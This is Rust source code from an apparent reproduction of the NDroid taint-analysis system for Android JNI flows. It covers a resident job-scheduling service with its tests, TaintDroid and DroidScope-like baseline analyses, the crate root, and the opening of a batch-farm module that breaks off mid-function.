                // Recycle the slot immediately: admission capacity
                // bounds *queued* closures, and a freed slot readmits a
                // blocked submitter before this job even starts.
                state.free.push(idx);
                state.running += 1;
                drop(state);
                self.slot_freed.notify_one();

                let now = Instant::now();
                let waited = now.duration_since(slot.submitted);
                // The message is deliberately free of wall-clock data
                // so a drained report stays stable across runs.
                let expired = match slot.deadline {
                    Some(d) if now >= d => {
                        Some("wall-clock deadline expired while queued".to_string())
                    }
                    _ => None,
                };
                let job = slot.job;
                return Some(QueuedJob {
                    seq: slot.seq,
                    label: job.label,
                    lane: slot.lane,
                    expired,
                    waited,
                    run: job.run,
                });
            }
            if state.closed {
                return None;
            }
            state = self.work_ready.wait(state).unwrap();
        }
    }

    fn complete(&self, done: CompletedJob) {
        let mut state = self.state.lock().unwrap();
        state.running -= 1;
        state.done.push_back(ServiceResult {
            seq: done.seq,
            label: done.label,
            lane: done.lane,
            waited: done.waited,
            outcome: done.outcome,
        });
        drop(state);
        self.result_ready.notify_all();
    }
}

/// The resident analysis service. Start one with
/// [`AnalysisService::start`]; workers live until
/// [`AnalysisService::shutdown`] (or drop).
///
/// ```ignore
/// let service = AnalysisService::start(ServiceConfig::new(4).capacity(128));
/// let ticket = service.submit(job)?;
/// while let Some(result) = service.recv_result() { /* stream */ }
/// let report = service.shutdown(); // offline-identical merge
/// ```
pub struct AnalysisService {
    inner: Arc<Inner>,
    workers: Vec<JoinHandle<()>>,
}

impl AnalysisService {
    /// Boots the service: spawns `config.workers` resident worker
    /// threads over an empty queue.
    pub fn start(config: ServiceConfig) -> AnalysisService {
        let workers_n = config.workers.max(1);
        let capacity = config.capacity.max(1);
        let cfg = ServiceConfig {
            workers: workers_n,
            capacity,
            bulk_age_limit: config.bulk_age_limit.max(1),
        };
        let inner = Arc::new(Inner {
            cfg,
            state: Mutex::new(State {
                slots: (0..capacity).map(|_| None).collect(),
                free: (0..capacity).rev().collect(),
                interactive: VecDeque::new(),
                bulk: VecDeque::new(),
                interactive_streak: 0,
                running: 0,
                next_seq: 0,
                done: VecDeque::new(),
                closed: false,
            }),
            slot_freed: Condvar::new(),
            work_ready: Condvar::new(),
            result_ready: Condvar::new(),
        });
        let workers = (0..workers_n)
            .map(|me| {
                let inner = Arc::clone(&inner);
                thread::Builder::new()
                    .name(format!("ndroid-service-{me}"))
                    .spawn(move || worker_loop(me, &*inner))
                    .expect("spawn service worker")
            })
            .collect();
        AnalysisService { inner, workers }
    }

    /// Submits a job, blocking while every slot is occupied
    /// (backpressure). The job's [`Lane`] and deadline come from the
    /// job itself ([`AnalysisJob::builder`]).
    ///
    /// # Errors
    ///
    /// [`SubmitError::ShutDown`] after [`AnalysisService::close`].
    pub fn submit(&self, job: AnalysisJob) -> Result<JobTicket, SubmitError> {
        let mut state = self.inner.state.lock().unwrap();
        loop {
            if state.closed {
                return Err(SubmitError::ShutDown);
            }
            if let Some(idx) = state.free.pop() {
                return Ok(self.admit(state, idx, job));
            }
            state = self.inner.slot_freed.wait(state).unwrap();
        }
    }

    /// Submits a job without blocking.
    ///
    /// # Errors
    ///
    /// [`SubmitError::Full`] when every slot is occupied;
    /// [`SubmitError::ShutDown`] after [`AnalysisService::close`].
    pub fn try_submit(&self, job: AnalysisJob) -> Result<JobTicket, SubmitError> {
        let mut state = self.inner.state.lock().unwrap();
        if state.closed {
            return Err(SubmitError::ShutDown);
        }
        match state.free.pop() {
            Some(idx) => Ok(self.admit(state, idx, job)),
            None => Err(SubmitError::Full { capacity: self.inner.cfg.capacity }),
        }
    }

    /// Installs `job` in slot `idx` and wakes a worker. Caller holds
    /// the state lock and has already popped `idx` off the free list.
    fn admit(
        &self,
        mut state: std::sync::MutexGuard<'_, State>,
        idx: usize,
        job: AnalysisJob,
    ) -> JobTicket {
        let seq = state.next_seq;
        state.next_seq += 1;
        let now = Instant::now();
        let ticket = JobTicket { seq, label: job.label.clone(), lane: job.lane };
        let slot = Slot {
            seq,
            lane: job.lane,
            submitted: now,
            deadline: job.deadline.map(|d| now + d),
            job,
        };
        match slot.lane {
            Lane::Interactive => state.interactive.push_back(idx),
            Lane::Bulk => state.bulk.push_back(idx),
        }
        state.slots[idx] = Some(slot);
        drop(state);
        self.inner.work_ready.notify_one();
        ticket
    }

    /// Submits every job a [`JobSource`] yields for `config`, in source
    /// order, all riding `lane`. Blocks for slots as needed
    /// (backpressure applies per job), so a source larger than the
    /// queue capacity streams through rather than failing.
    ///
    /// # Errors
    ///
    /// [`SubmitError::ShutDown`] if the service closes mid-stream
    /// (tickets already issued stay valid).
    pub fn submit_source(
        &self,
        source: &dyn JobSource,
        config: &SystemConfig,
        lane: Lane,
    ) -> Result<Vec<JobTicket>, SubmitError> {
        let mut tickets = Vec::new();
        for mut job in source.jobs(config) {
            job.lane = lane;
            tickets.push(self.submit(job)?);
        }
        Ok(tickets)
    }

    /// The next finished result, in completion order — blocks while
    /// the service is open but idle. Returns `None` once the service
    /// is closed and every result has been consumed.
    pub fn recv_result(&self) -> Option<ServiceResult> {
        let mut state = self.inner.state.lock().unwrap();
        loop {
            if let Some(r) = state.done.pop_front() {
                return Some(r);
            }
            if state.closed && state.running == 0 && state.queued() == 0 {
                return None;
            }
            state = self.inner.result_ready.wait(state).unwrap();
        }
    }

    /// The next finished result if one is ready; never blocks.
    pub fn try_recv_result(&self) -> Option<ServiceResult> {
        self.inner.state.lock().unwrap().done.pop_front()
    }

    /// Streaming iterator over results in completion order; ends when
    /// the service is closed and drained (see
    /// [`AnalysisService::recv_result`]).
    pub fn results(&self) -> Results<'_> {
        Results { service: self }
    }

    /// Jobs admitted but not yet finished (queued + running).
    pub fn in_flight(&self) -> usize {
        let state = self.inner.state.lock().unwrap();
        state.queued() + state.running
    }

    /// Waits until every admitted job has finished, then merges every
    /// result **not already consumed** by
    /// [`AnalysisService::recv_result`] in submission order. For a
    /// service used in drain mode (no streaming consumption), the
    /// returned [`BatchReport`] — fields and rendering — is
    /// byte-identical to [`crate::batch::run_batch`] over the same
    /// jobs in submission order, at any worker count.
    ///
    /// Submissions racing a `drain` land in either this report or the
    /// next one, depending on whether they were admitted before the
    /// queue emptied.
    pub fn drain(&self) -> BatchReport {
        let mut state = self.inner.state.lock().unwrap();
        while state.running > 0 || state.queued() > 0 {
            state = self.inner.result_ready.wait(state).unwrap();
        }
        let mut rows: Vec<ServiceResult> = state.done.drain(..).collect();
        drop(state);
        rows.sort_by_key(|r| r.seq);
        BatchReport { results: rows.into_iter().map(ServiceResult::into_job_result).collect() }
    }

    /// Closes the queue: future submissions fail with
    /// [`SubmitError::ShutDown`]; already-admitted jobs still run.
    pub fn close(&self) {
        let mut state = self.inner.state.lock().unwrap();
        state.closed = true;
        drop(state);
        self.inner.work_ready.notify_all();
        self.inner.slot_freed.notify_all();
        self.inner.result_ready.notify_all();
    }

    /// Closes, drains, joins the workers, and returns the final merged
    /// report (everything not consumed by streaming).
    pub fn shutdown(mut self) -> BatchReport {
        self.close();
        let report = self.drain();
        for h in self.workers.drain(..) {
            h.join().expect("service worker panicked outside a job");
        }
        report
    }

    /// The effective (clamped) configuration.
    pub fn config(&self) -> ServiceConfig {
        self.inner.cfg
    }
}

impl Drop for AnalysisService {
    fn drop(&mut self) {
        self.close();
        for h in self.workers.drain(..) {
            // Same contract as the batch farm: job panics are caught,
            // so a failed join is a worker-loop bug.
            h.join().expect("service worker panicked outside a job");
        }
    }
}

impl std::fmt::Debug for AnalysisService {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AnalysisService")
            .field("config", &self.inner.cfg)
            .field("in_flight", &self.in_flight())
            .finish()
    }
}

/// Streaming result iterator — see [`AnalysisService::results`].
pub struct Results<'a> {
    service: &'a AnalysisService,
}

impl Iterator for Results<'_> {
    type Item = ServiceResult;
    fn next(&mut self) -> Option<ServiceResult> {
        self.service.recv_result()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::EngineKind;
    use crate::system::Mode;
    use crate::RunReport;

    fn fake_report(insns: u64) -> RunReport {
        RunReport {
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            sink_events: Vec::new(),
            network_log: Vec::new(),
            violations: Vec::new(),
            stats: None,
            native_insns: insns,
            bytecodes: 0,
            provenance: None,
            provenance_store: None,
        }
    }

    fn ok_job(label: &str, insns: u64) -> AnalysisJob {
        AnalysisJob::new(label, move || Ok(fake_report(insns)))
    }

    /// A job that signals when it starts and blocks its worker until
    /// the returned sender fires. `started.recv()` is how tests pin a
    /// worker before queueing more work behind it.
    fn gate_job(
        label: &str,
    ) -> (AnalysisJob, std::sync::mpsc::Sender<()>, std::sync::mpsc::Receiver<()>) {
        let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
        let (started_tx, started_rx) = std::sync::mpsc::channel::<()>();
        let job = AnalysisJob::new(label, move || {
            started_tx.send(()).ok();
            release_rx.recv().ok();
            Ok(fake_report(0))
        });
        (job, release_tx, started_rx)
    }

    #[test]
    fn zero_workers_and_capacity_clamp_to_one() {
        let service = AnalysisService::start(
            ServiceConfig { workers: 0, capacity: 0, bulk_age_limit: 0 },
        );
        assert_eq!(service.config().workers, 1);
        assert_eq!(service.config().capacity, 1);
        assert_eq!(service.config().bulk_age_limit, 1);
        service.submit(ok_job("only", 7)).unwrap();
        let report = service.shutdown();
        assert_eq!(report.completed(), 1);
        assert_eq!(report.results[0].label, "only");
    }

    #[test]
    fn submit_while_running_streams_results() {
        let service = AnalysisService::start(ServiceConfig::new(2).capacity(8));
        for i in 0..6 {
            service.submit(ok_job(&format!("job_{i}"), i)).unwrap();
        }
        let mut seen: Vec<u64> = (0..6).map(|_| service.recv_result().unwrap().seq).collect();
        seen.sort_unstable();
        assert_eq!(seen, (0..6).collect::<Vec<_>>());
        // More work after the first wave: the service stayed resident.
        let t = service.submit(ok_job("late", 99)).unwrap();
        assert_eq!(t.seq, 6);
        let late = service.recv_result().unwrap();
        assert_eq!(late.label, "late");
        assert!(matches!(late.outcome, JobOutcome::Completed(_)));
        assert_eq!(service.shutdown().results.len(), 0);
    }

    #[test]
    fn try_submit_backpressure_and_slot_recycling() {
        // One worker pinned by a gate job; capacity 2 fills with the
        // two queued jobs behind it.
        let service = AnalysisService::start(ServiceConfig::new(1).capacity(2));
        let (gate, release, started) = gate_job("gate");
        service.submit(gate).unwrap();
        // Once the gate is running, its slot has been recycled and the
        // single worker is pinned; fill both slots behind it.
        started.recv().unwrap();
        service.try_submit(ok_job("q0", 0)).unwrap();
        service.try_submit(ok_job("q1", 1)).unwrap();
        let err = service.try_submit(ok_job("q2", 2)).unwrap_err();
        assert_eq!(err, SubmitError::Full { capacity: 2 });
        assert_eq!(err.to_string(), "job queue full (2 slots occupied)");
        release.send(()).unwrap();
        // Slots recycle as the worker drains; the rejected job now fits.
        service.submit(ok_job("q2", 2)).unwrap();
        let report = service.shutdown();
        assert_eq!(report.completed(), 4);
        let labels: Vec<&str> = report.results.iter().map(|r| r.label.as_str()).collect();
        assert_eq!(labels, ["gate", "q0", "q1", "q2"]);
    }

    #[test]
    fn interactive_lane_jumps_queued_bulk() {
        let service = AnalysisService::start(ServiceConfig::new(1).capacity(8));
        let (gate, release, started) = gate_job("gate");
        service.submit(gate).unwrap();
        started.recv().unwrap();
        // Queue bulk first, then interactive; with one worker the
        // completion order is fully determined by the lane policy.
        for i in 0..2 {
            service
                .submit(AnalysisJob::builder(format!("bulk_{i}")).run(move || Ok(fake_report(i))))
                .unwrap();
        }
        for i in 0..2 {
            service
                .submit(
                    AnalysisJob::builder(format!("int_{i}"))
                        .lane(Lane::Interactive)
                        .run(move || Ok(fake_report(i))),
                )
                .unwrap();
        }
        release.send(()).unwrap();
        let order: Vec<String> = (0..5).map(|_| service.recv_result().unwrap().label).collect();
        assert_eq!(order, ["gate", "int_0", "int_1", "bulk_0", "bulk_1"]);
        // The drained report is nevertheless submission-ordered.
        let service2 = AnalysisService::start(ServiceConfig::new(1).capacity(8));
        let (gate, release, started) = gate_job("gate");
        service2.submit(gate).unwrap();
        started.recv().unwrap();
        for i in 0..2 {
            service2
                .submit(AnalysisJob::builder(format!("bulk_{i}")).run(move || Ok(fake_report(i))))
                .unwrap();
        }
        for i in 0..2 {
            service2
                .submit(
                    AnalysisJob::builder(format!("int_{i}"))
                        .lane(Lane::Interactive)
                        .run(move || Ok(fake_report(i))),
                )
                .unwrap();
        }
        release.send(()).unwrap();
        let report = service2.shutdown();
        let labels: Vec<&str> = report.results.iter().map(|r| r.label.as_str()).collect();
        assert_eq!(labels, ["gate", "bulk_0", "bulk_1", "int_0", "int_1"]);
    }

    #[test]
    fn bulk_aging_prevents_starvation() {
        // Exercise the picker directly: with age limit 2 and a full
        // interactive queue, bulk is served every third dequeue.
        let mut state = State {
            slots: Vec::new(),
            free: Vec::new(),
            interactive: (0..6).collect(),
            bulk: (10..12).collect(),
            interactive_streak: 0,
            running: 0,
            next_seq: 0,
            done: VecDeque::new(),
            closed: false,
        };
        let mut order = Vec::new();
        while let Some(idx) = state.pick(2) {
            order.push(idx);
        }
        assert_eq!(order, [0, 1, 10, 2, 3, 11, 4, 5]);
    }

    #[test]
    fn expired_deadline_preempts_before_start() {
        let service = AnalysisService::start(ServiceConfig::new(1).capacity(4));
        let (gate, release, started) = gate_job("gate");
        service.submit(gate).unwrap();
        started.recv().unwrap();
        // Deadline ZERO: expired the moment it can be dequeued.
        service
            .submit(
                AnalysisJob::builder("doomed")
                    .deadline(Duration::ZERO)
                    .run(|| panic!("must never run")),
            )
            .unwrap();
        service.submit(ok_job("after", 1)).unwrap();
        release.send(()).unwrap();
        let report = service.shutdown();
        assert_eq!(report.results.len(), 3);
        assert!(matches!(
            &report.results[1].outcome,
            JobOutcome::Deadline(m) if m.contains("wall-clock deadline expired")
        ));
        // The recycled slot behind the deadline job is uncorrupted.
        assert_eq!(report.results[2].label, "after");
        assert!(matches!(report.results[2].outcome, JobOutcome::Completed(_)));
        assert_eq!(report.deadlined(), 1);
    }

    #[test]
    fn submit_after_close_fails() {
        let service = AnalysisService::start(ServiceConfig::new(1));
        service.close();
        assert_eq!(service.submit(ok_job("x", 0)).unwrap_err(), SubmitError::ShutDown);
        assert_eq!(
            service.try_submit(ok_job("x", 0)).unwrap_err().to_string(),
            "service is shut down"
        );
        assert!(service.recv_result().is_none());
    }

    #[test]
    fn results_iterator_ends_at_shutdown() {
        let service = AnalysisService::start(ServiceConfig::new(2).capacity(8));
        for i in 0..5 {
            service.submit(ok_job(&format!("j{i}"), i)).unwrap();
        }
        service.close();
        let mut labels: Vec<String> = service.results().map(|r| r.label).collect();
        labels.sort();
        assert_eq!(labels, ["j0", "j1", "j2", "j3", "j4"]);
    }
}
