//! Comparison baselines: TaintDroid-only and a DroidScope-like
//! whole-system tracer.

use crate::tracer::propagate;
use ndroid_arm::exec::Effect;
use ndroid_arm::{Cpu, Memory};
use ndroid_emu::runtime::Analysis;
use ndroid_emu::shadow::ShadowState;

/// TaintDroid alone: the modified DVM tracks Java-context taint (that
/// part lives in [`ndroid_dvm`] and is always active when
/// `taint_tracking` is on), but **nothing** is tracked in the native
/// context — `tracks_native` is `false`, so the libc models skip taint
/// work, sinks in the native context see clear data, and the JNI
/// return-value policy ("tainted iff any parameter is tainted") is the
/// only thing that crosses the boundary. This is precisely the
/// under-tainting of §IV.
#[derive(Debug, Default, Clone, Copy)]
pub struct TaintDroidAnalysis;

impl Analysis for TaintDroidAnalysis {}

/// A DroidScope-like configuration: instruction-level taint tracking
/// over *all* native instructions (like NDroid's tracer) but with no
/// JNI semantic shortcuts — no hot-handler cache, no multilevel gating
/// — and, crucially, the DVM interpreter itself is also analyzed
/// instruction-by-instruction. The interpreter-side cost is modeled by
/// [`ndroid_dvm::Dvm::per_insn_tax`] (set by
/// [`crate::system::NDroidSystem`]), a documented substitution: we have
/// no guest-binary interpreter to trace, so each interpreted bytecode
/// pays the analysis work DroidScope would spend on the interpreter's
/// machine instructions.
#[derive(Debug, Default, Clone)]
pub struct DroidScopeLikeAnalysis {
    /// Instructions analyzed.
    pub insns_traced: u64,
    /// Branch events processed (every one, no gating).
    pub branch_events: u64,
    /// Extra per-instruction work units, modeling the cost of
    /// reconstructing OS/DVM views "only from the machine instructions
    /// without exploiting JNI's semantic information" (§I).
    pub view_reconstruction_work: u32,
}

impl DroidScopeLikeAnalysis {
    /// The default per-instruction view-reconstruction work factor,
    /// calibrated so the overall slowdown lands in DroidScope's
    /// published 11–34× band.
    pub const DEFAULT_WORK: u32 = 5_200;

    /// Per-*bytecode* work units for the Java side: DroidScope analyzes
    /// every machine instruction of the interpreter loop (tens of ARM
    /// instructions per bytecode), so the Java-side factor is larger.
    pub const JAVA_WORK: u32 = 600;

    /// A DroidScope-like analysis with the default work factor.
    pub fn new() -> DroidScopeLikeAnalysis {
        DroidScopeLikeAnalysis {
            insns_traced: 0,
            branch_events: 0,
            view_reconstruction_work: Self::DEFAULT_WORK,
        }
    }
}

impl Analysis for DroidScopeLikeAnalysis {
    fn tracks_native(&self) -> bool {
        true
    }

    fn on_insn(&mut self, shadow: &mut ShadowState, _cpu: &Cpu, _mem: &Memory, effect: &Effect) {
        self.insns_traced += 1;
        // Same dataflow rules (DroidScope reported no new flows beyond
        // TaintDroid, but its tracker operates at this level)…
        propagate(shadow, effect);
        // …plus the modeled semantic-view reconstruction per
        // instruction.
        let mut acc = 0u64;
        for i in 0..self.view_reconstruction_work {
            acc = acc.wrapping_mul(6364136223846793005).wrapping_add(i as u64);
        }
        std::hint::black_box(acc);
    }

    fn on_branch(&mut self, _shadow: &mut ShadowState, _from: u32, _to: u32) {
        self.branch_events += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_arm::cond::Cond;
    use ndroid_arm::insn::{DpOp, Instr, Op2};
    use ndroid_arm::reg::Reg;
    use ndroid_dvm::Taint;

    #[test]
    fn taintdroid_does_not_track_native() {
        let a = TaintDroidAnalysis;
        assert!(!a.tracks_native());
    }

    #[test]
    fn droidscope_tracks_and_counts() {
        let mut a = DroidScopeLikeAnalysis::new();
        assert!(a.tracks_native());
        let mut sh = ShadowState::new();
        sh.regs[1] = Taint::IMEI;
        let cpu = Cpu::new();
        let mem = Memory::new();
        let eff = Effect {
            instr: Instr::Dp {
                cond: Cond::Al,
                op: DpOp::Mov,
                s: false,
                rd: Reg::R0,
                rn: Reg::R0,
                op2: Op2::reg(Reg::R1),
            },
            pc: 0x1000_0000,
            size: 4,
            executed: true,
            branch: None,
            addr: None,
            svc: None,
        };
        a.on_insn(&mut sh, &cpu, &mem, &eff);
        assert_eq!(a.insns_traced, 1);
        assert_eq!(sh.regs[0], Taint::IMEI, "same propagation rules");
        a.on_branch(&mut sh, 0, 4);
        assert_eq!(a.branch_events, 1);
    }
}
