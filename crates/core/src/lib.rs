#![warn(missing_docs)]

//! # ndroid-core
//!
//! NDroid itself: the dynamic taint analysis system for tracking
//! information flows through JNI (Qian, Luo, Shao, Chan — DSN 2014).
//!
//! The four modules NDroid adds to the emulator (§V, Fig. 4) map to:
//!
//! | Paper module            | Here                                   |
//! |-------------------------|----------------------------------------|
//! | DVM hook engine         | [`analysis::NDroidAnalysis`] JNI entry/exit callbacks + the host-table hooks the [`ndroid_jni`] crate fires |
//! | Instruction tracer      | [`tracer`] (Table V propagation)       |
//! | System lib hook engine  | [`ndroid_libc`]'s modeled functions, gated by [`ndroid_emu::runtime::Analysis::tracks_native`] |
//! | Taint engine            | [`ndroid_emu::shadow::ShadowState`] directed by the tracer |
//!
//! [`system::NDroidSystem`] assembles a complete analyzed Android
//! world and can run the same app under four configurations:
//! vanilla, TaintDroid-only, NDroid, and a DroidScope-like
//! whole-system tracer — the comparison axis of the paper's
//! evaluation (§VI).

pub mod analysis;
pub mod baseline;
pub mod batch;
pub mod config;
pub mod oracle;
pub mod report;
pub mod score;
pub mod service;
pub mod source_policy;
pub mod system;
pub mod tracer;

pub use analysis::{NDroidAnalysis, ProtectionViolation};
pub use baseline::{DroidScopeLikeAnalysis, TaintDroidAnalysis};
pub use batch::{
    jobs_from, run_batch, AnalysisJob, BatchConfig, BatchQueryHit, BatchQueryResult, BatchReport,
    JobBuilder, JobOutcome, JobResult, JobSource, Lane,
};
pub use config::{EngineKind, SourcePolicyOverride, SystemConfig};
pub use oracle::{
    check_oracle, diff_taint_state, ref_propagate, EngineRun, OracleProgram, OracleVerdict,
    ReferenceAnalysis, StopReason,
};
pub use report::{CaseOutcome, DetectionReport, RunReport};
pub use score::{score_batch, FamilyScore, ScoreCard, ScoreReport};
pub use service::{
    AnalysisService, JobTicket, ServiceConfig, ServiceResult, SubmitError,
};
pub use ndroid_provenance::{
    EventKind, FlowGraph, Handle as ProvHandle, LeakPath, Level as ProvenanceLevel, ProvEvent,
    ProvQuery, ProvStore, ProvenanceSummary, QueryHit, QueryResult, QueryStats, SealedSegment,
};
pub use source_policy::SourcePolicy;
pub use system::{Mode, NDroidSystem, Snapshot};
