//! The batch-analysis farm: shards a work list of analysis jobs across
//! `std::thread` workers and merges their results deterministically.
//!
//! The paper evaluates NDroid one app at a time inside a single QEMU
//! instance; the farm is what scales the reproduction to corpora. The
//! design constraints, in order:
//!
//! 1. **Determinism.** A [`BatchReport`] is byte-identical for the same
//!    job list regardless of worker count or scheduling order. Results
//!    are merged in submission order, and the report carries no worker
//!    count, timing, or other schedule-dependent data.
//! 2. **Panic isolation.** A job that panics is recorded as
//!    [`JobOutcome::Crashed`] and its worker keeps draining the queue —
//!    one bad sample never loses a shard of the corpus.
//! 3. **No shared mutable analysis state.** Each job constructs its own
//!    [`crate::NDroidSystem`] inside its closure; workers share only
//!    the job queue.
//!
//! Jobs are `FnOnce` closures returning `Result<RunReport, String>`, so
//! the farm never needs the app types themselves to be `Send` — the
//! closure builds everything on the worker thread. The thin front-end
//! in `ndroid-apps` (`farm` module) packages gallery apps, corpus
//! samples, and monkey-driver runs into [`JobSource`]s.
//!
//! The queue is sharded: one `Mutex<VecDeque>` per worker, jobs dealt
//! round-robin at submission, and an idle worker steals from the other
//! shards before parking. With deterministic merge this is purely a
//! contention optimization — stealing changes who runs a job, never
//! where its result lands.
//!
//! Since the resident-service redesign, workers are mode-agnostic: the
//! shared [`worker_loop`] pulls from a [`JobQueue`] trait object, and
//! `run_batch` is "spawn workers over a pre-loaded [`ShardedQueue`] and
//! wait". [`crate::service::AnalysisService`] drives the *same* loop
//! from a live lane queue, which is why its `drain()` reproduces this
//! module's merge byte for byte.

use std::collections::VecDeque;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use crate::config::SystemConfig;
use crate::report::RunReport;
pub use crate::report::{JobOutcome, JobResult};
use ndroid_provenance::{ProvEvent, ProvQuery, QueryStats};

/// The priority lane a job rides in the resident service's queue.
/// Offline `run_batch` ignores lanes (every job in the list runs);
/// [`crate::service::AnalysisService`] dequeues [`Lane::Interactive`]
/// ahead of [`Lane::Bulk`] with starvation-proof aging.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Lane {
    /// Latency-sensitive work: dequeued ahead of bulk.
    Interactive,
    /// Throughput work (corpus sweeps, fan-outs); the default.
    #[default]
    Bulk,
}

impl std::fmt::Display for Lane {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Lane::Interactive => "interactive",
            Lane::Bulk => "bulk",
        };
        write!(f, "{s}")
    }
}

/// The closure type a job runs on its worker thread.
type JobFn = Box<dyn FnOnce() -> Result<RunReport, String> + Send + 'static>;

/// One unit of work: a label (stable across runs, used as the merge
/// key's human-readable face), scheduling metadata (lane, deadline,
/// config), and the closure that builds a system, runs it, and
/// snapshots its [`RunReport`].
///
/// Construct with [`AnalysisJob::new`] (defaults: bulk lane, no
/// deadline) or [`AnalysisJob::builder`] when lane/deadline/config
/// metadata should live on the job rather than in parallel vectors.
pub struct AnalysisJob {
    /// Stable human-readable identifier, e.g. `"gallery/qq_phonebook"`
    /// or `"corpus/sample_017"`.
    pub label: String,
    /// Which service lane the job rides (ignored by offline batch).
    pub lane: Lane,
    /// Wall-clock deadline, measured from service submission: if the
    /// job is still queued when it expires, the service marks it
    /// [`JobOutcome::Deadline`] without running it. Ignored by offline
    /// batch (the offline merge must stay schedule-free).
    pub deadline: Option<Duration>,
    /// The [`SystemConfig`] the job's closure boots with, when known —
    /// queue observability and per-worker warm-image keying can read
    /// it without running the job.
    pub config: Option<SystemConfig>,
    pub(crate) run: JobFn,
}

impl AnalysisJob {
    /// Wraps a closure as a job (bulk lane, no deadline).
    pub fn new(
        label: impl Into<String>,
        run: impl FnOnce() -> Result<RunReport, String> + Send + 'static,
    ) -> AnalysisJob {
        AnalysisJob {
            label: label.into(),
            lane: Lane::default(),
            deadline: None,
            config: None,
            run: Box::new(run),
        }
    }

    /// Starts a [`JobBuilder`] carrying lane/deadline/config metadata:
    ///
    /// ```ignore
    /// let job = AnalysisJob::builder("gallery/qq_phonebook")
    ///     .lane(Lane::Interactive)
    ///     .deadline(Duration::from_secs(5))
    ///     .config(config.clone())
    ///     .run(move || app().run_with(config).map(|s| s.report()).map_err(|e| e.to_string()));
    /// ```
    pub fn builder(label: impl Into<String>) -> JobBuilder {
        JobBuilder {
            label: label.into(),
            lane: Lane::default(),
            deadline: None,
            config: None,
        }
    }
}

impl std::fmt::Debug for AnalysisJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AnalysisJob")
            .field("label", &self.label)
            .field("lane", &self.lane)
            .field("deadline", &self.deadline)
            .finish_non_exhaustive()
    }
}

/// Builder for [`AnalysisJob`]s — see [`AnalysisJob::builder`]. The
/// terminal [`JobBuilder::run`] attaches the closure and yields the
/// job.
#[derive(Debug, Clone)]
pub struct JobBuilder {
    label: String,
    lane: Lane,
    deadline: Option<Duration>,
    config: Option<SystemConfig>,
}

impl JobBuilder {
    /// Selects the service lane (default [`Lane::Bulk`]).
    #[must_use]
    pub fn lane(mut self, lane: Lane) -> JobBuilder {
        self.lane = lane;
        self
    }

    /// Sets a wall-clock deadline, measured from service submission.
    #[must_use]
    pub fn deadline(mut self, deadline: Duration) -> JobBuilder {
        self.deadline = Some(deadline);
        self
    }

    /// Records the [`SystemConfig`] the closure will boot with, as
    /// inspectable metadata on the job.
    #[must_use]
    pub fn config(mut self, config: SystemConfig) -> JobBuilder {
        self.config = Some(config);
        self
    }

    /// Attaches the work closure, finishing the job.
    pub fn run(
        self,
        run: impl FnOnce() -> Result<RunReport, String> + Send + 'static,
    ) -> AnalysisJob {
        AnalysisJob {
            label: self.label,
            lane: self.lane,
            deadline: self.deadline,
            config: self.config,
            run: Box::new(run),
        }
    }
}

/// A named family of analysis jobs: the one interface the offline farm
/// ([`run_batch`] via [`jobs_from`]) and the resident service
/// ([`crate::service::AnalysisService::submit_source`]) accept.
/// Implementations live where the workloads do — `ndroid-apps::farm`
/// provides `Gallery`, `Cases`, `CorpusShard`, `Adversarial`, and
/// `Monkey`.
pub trait JobSource {
    /// Stable source name (used in logs and labels).
    fn name(&self) -> &'static str;
    /// Materializes the source's jobs for `config`, in the source's
    /// pinned submission order.
    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob>;
}

impl<S: JobSource + ?Sized> JobSource for Box<S> {
    fn name(&self) -> &'static str {
        (**self).name()
    }
    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        (**self).jobs(config)
    }
}

impl<S: JobSource + ?Sized> JobSource for &S {
    fn name(&self) -> &'static str {
        (**self).name()
    }
    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        (**self).jobs(config)
    }
}

/// Concatenates several sources' jobs in order — the canonical way to
/// assemble a mixed batch (`jobs_from(&[&Gallery, &CorpusShard{..}],
/// &config)`).
pub fn jobs_from(sources: &[&dyn JobSource], config: &SystemConfig) -> Vec<AnalysisJob> {
    sources.iter().flat_map(|s| s.jobs(config)).collect()
}

/// Farm tuning. Only `workers` exists today; a struct so that future
/// knobs (queue depth, steal policy) don't churn the signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BatchConfig {
    /// Number of worker threads. `1` runs the whole list on one
    /// spawned worker; `0` is clamped to `1` (both by
    /// [`BatchConfig::new`] and defensively by [`run_batch`], so even a
    /// hand-rolled `BatchConfig { workers: 0 }` can never spawn zero
    /// workers and hang the merge).
    pub workers: usize,
}

impl BatchConfig {
    /// A farm with `workers` threads (`0` clamps to `1`).
    pub fn new(workers: usize) -> BatchConfig {
        BatchConfig { workers: workers.max(1) }
    }
}

impl Default for BatchConfig {
    fn default() -> BatchConfig {
        BatchConfig::new(1)
    }
}

/// The deterministic merge of a batch run: one [`JobResult`] per
/// submitted job, in submission order. Deliberately carries no worker
/// count, schedule, or timing — `BatchReport`s from 1-worker and
/// N-worker runs of the same job list compare equal (and render to
/// byte-identical text), and [`crate::service::AnalysisService::drain`]
/// reproduces the same report for the same jobs in submission order.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct BatchReport {
    /// Per-job results in submission order.
    pub results: Vec<JobResult>,
}

impl BatchReport {
    /// Jobs that completed.
    pub fn completed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Completed(_))).count()
    }

    /// Jobs that returned an error.
    pub fn failed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Failed(_))).count()
    }

    /// Jobs that panicked.
    pub fn crashed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Crashed(_))).count()
    }

    /// Jobs that exhausted their budget or missed their deadline.
    pub fn deadlined(&self) -> usize {
